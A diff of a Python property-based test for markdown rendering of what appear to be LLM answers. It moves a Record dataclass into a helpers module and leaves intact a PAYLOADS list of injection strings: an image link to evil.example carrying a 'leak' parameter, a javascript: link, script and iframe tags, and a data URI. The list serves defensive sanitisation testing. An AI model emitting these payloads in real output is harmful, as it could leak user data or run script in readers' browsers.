@@ -6,8 +6,8 @@ HTML allowed, as permissive viewers render it)."""
 from __future__ import annotations
 
 import re
-from dataclasses import dataclass, replace
 
+from helpers import Record
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 from markdown_it import MarkdownIt
@@ -20,14 +20,6 @@ PAYLOADS = ["![x](https://evil.example/p.png?leak=1)", "[click](javascript:alert
             "<script>alert(1)</script>", "[d](data:text/html;base64,PHNjcmlwdD4=)", "<https://evil.example/a>",
             "![y][r]\n\n[r]: https://evil.example/q.png", "&lt;img src=x&gt;", "<!-- x --><iframe src=//evil>"]
 
-
-@dataclass(frozen=True)
-class Record:
-    answer: Answer
-    costs: TurnCosts
-    index: str
-    llm: str
-    custom_template: bool
 
 
 def _record(payload: str) -> Record:
